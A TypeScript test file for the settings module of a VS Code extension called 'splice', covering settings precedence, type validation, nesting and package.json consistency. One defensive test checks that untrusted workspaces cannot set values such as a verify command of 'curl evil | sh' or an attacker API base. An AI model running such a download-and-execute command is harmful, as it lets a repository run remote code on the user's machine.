import "./setup";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import * as path from "node:path";
import { describe, it } from "node:test";
import { configuredModels, readSettings, SETTINGS, setNested, validate, type InspectedValue } from "../src/settings";

const inspector = (values: Record<string, InspectedValue>) => (key: string) => values[key];

describe("readSettings", () => {
    it("sends only what the user set, nested and camelCase", () => {
        const read = readSettings(
            inspector({
                model: { globalValue: "openai/gpt-4o-mini" },
                "models.generate": { workspaceValue: "anthropic/claude-sonnet-4-5" },
                "budget.daily": { globalValue: 2.5 },
                "index.maxFileSize": { workspaceFolderValue: 500 },
                exclude: { globalValue: ["*.min.js"] },
            }),
            true,
        );
        assert.deepEqual(read.server, {
            model: "openai/gpt-4o-mini",
            models: { generate: "anthropic/claude-sonnet-4-5" },
            budget: { daily: 2.5 },
            index: { maxFileSize: 500 },
            exclude: ["*.min.js"],
        });
        assert.deepEqual(read.problems, []);
        assert.equal(read.values.temperature, 0.2, "unset keys keep their default for the client");
    });

    it("prefers folder over workspace over user values", () => {
        const read = readSettings(inspector({ temperature: { globalValue: 0.1, workspaceValue: 0.5, workspaceFolderValue: 0.9 } }), true);
        assert.equal(read.server.temperature, 0.9);
    });

    it("turns each bad type into a warning and the default, and sends nothing for it", () => {
        const read = readSettings(
            inspector({
                temperature: { globalValue: "hot" },
                maxTokens: { globalValue: 12.5 },
                exclude: { globalValue: "*.log" },
                "review.mode": { globalValue: "sideBySide" },
                "cache.enabled": { globalValue: "yes" },
                concurrency: { globalValue: 0 },
                "budget.daily": { globalValue: -1 },
            }),
            true,
        );
        assert.deepEqual(read.server, {});
        assert.equal(read.problems.length, 7);
        assert.match(read.problems[0], /"splice.temperature" = "hot" is invalid \(expected a number\); using the default 0.2/);
        assert.ok(read.problems.some((p) => p.includes("expected one of auto, inline, refactorPreview, message")));
        assert.equal(read.values.temperature, 0.2);
        assert.equal(read.values["review.mode"], "auto");
    });

    it("accepts null for optional values (an explicit 'none' overrides pyproject.toml)", () => {
        const read = readSettings(inspector({ model: { globalValue: null }, "budget.perRequest": { globalValue: null } }), true);
        assert.deepEqual(read.server, { model: null, budget: { perRequest: null } });
        assert.deepEqual(read.problems, []);
    });

    it("never sends client-only settings", () => {
        const read = readSettings(inspector({ "server.python": { globalValue: "/opt/py/bin/python" } }), true);
        assert.deepEqual(read.server, {});
        assert.equal(read.values["server.python"], "/opt/py/bin/python");
    });

    it("ignores workspace values of restricted settings in an untrusted workspace, keeps user values", () => {
        const values = {
            "verify.command": { workspaceValue: "curl evil | sh" },
            "server.python": { workspaceValue: "./evil/python", globalValue: "/usr/bin/python3" },
            apiBase: { workspaceFolderValue: "http://attacker" },
            model: { workspaceValue: "openai/gpt-4o" },
        };
        const untrusted = readSettings(inspector(values), false);
        assert.deepEqual(untrusted.server, {}); // the model too: a repository cannot choose where its prompts go
        assert.equal(untrusted.values["server.python"], "/usr/bin/python3");
        const trusted = readSettings(inspector(values), true);
        assert.equal((trusted.server.verify as Record<string, unknown>).command, "curl evil | sh");
    });
});

describe("validate", () => {
    it("checks integers, ranges and string arrays", () => {
        assert.equal(validate(SETTINGS.maxTokens, 10), undefined);
        assert.equal(validate(SETTINGS.maxTokens, 0), "expected at least 1");
        assert.equal(validate(SETTINGS.temperature, 3), "expected at most 2");
        assert.equal(validate(SETTINGS.temperature, Number.NaN), "expected a number");
        assert.equal(validate(SETTINGS.exclude, ["a", 1]), "expected a list of glob patterns (strings)");
        assert.equal(validate(SETTINGS["embeddings.model"], null), "expected a string");
    });
});

describe("helpers", () => {
    it("setNested builds nested objects", () => {
        const target: Record<string, unknown> = {};
        setNested(target, "verify.maxRounds", 2);
        setNested(target, "verify.timeout", 30);
        assert.deepEqual(target, { verify: { maxRounds: 2, timeout: 30 } });
    });

    it("configuredModels lists distinct non-empty models", () => {
        assert.deepEqual(
            configuredModels({ model: "openai/gpt-4o", "models.generate": "openai/gpt-4o", "models.explain": "anthropic/claude-3-5-haiku", "models.review": "" }),
            ["openai/gpt-4o", "anthropic/claude-3-5-haiku"],
        );
    });
});

describe("package.json agrees with the settings table", () => {
    const manifest = JSON.parse(readFileSync(path.resolve(__dirname, "../../package.json"), "utf8")) as {
        contributes: { configuration: { properties: Record<string, Record<string, unknown>> } };
        capabilities: { untrustedWorkspaces: { restrictedConfigurations: string[] } };
    };
    const properties = manifest.contributes.configuration.properties;
    const jsonType: Record<string, unknown> = {
        string: "string",
        nullableString: ["string", "null"],
        number: "number",
        nullableNumber: ["number", "null"],
        integer: "integer",
        boolean: "boolean",
        stringArray: "array",
    };

    it("declares every key with its type, default, bounds and a description", () => {
        for (const [key, spec] of Object.entries(SETTINGS)) {
            const entry = properties[`splice.${key}`];
            assert.ok(entry, `splice.${key} missing from package.json`);
            assert.deepEqual(entry.type, jsonType[spec.type], `type of splice.${key}`);
            assert.deepEqual(entry.default, spec.default, `default of splice.${key}`);
            assert.equal(entry.minimum, spec.minimum, `minimum of splice.${key}`);
            assert.equal(entry.maximum, spec.maximum, `maximum of splice.${key}`);
            assert.deepEqual(entry.enum, spec.enum, `enum of splice.${key}`);
            assert.ok(typeof entry.markdownDescription === "string" && entry.markdownDescription.length > 20, `description of splice.${key}`);
        }
    });

    it("has no setting the client does not know, except trace.server (read by vscode-languageclient)", () => {
        const unknown = Object.keys(properties).filter((k) => !(k.slice("splice.".length) in SETTINGS));
        assert.deepEqual(unknown, ["splice.trace.server"]);
    });

    it("restricts exactly the settings the client ignores in restricted mode", () => {
        const restricted = Object.entries(SETTINGS).filter(([, s]) => s.restricted).map(([k]) => `splice.${k}`);
        assert.deepEqual([...manifest.capabilities.untrustedWorkspaces.restrictedConfigurations].sort(), restricted.sort());
    });
});
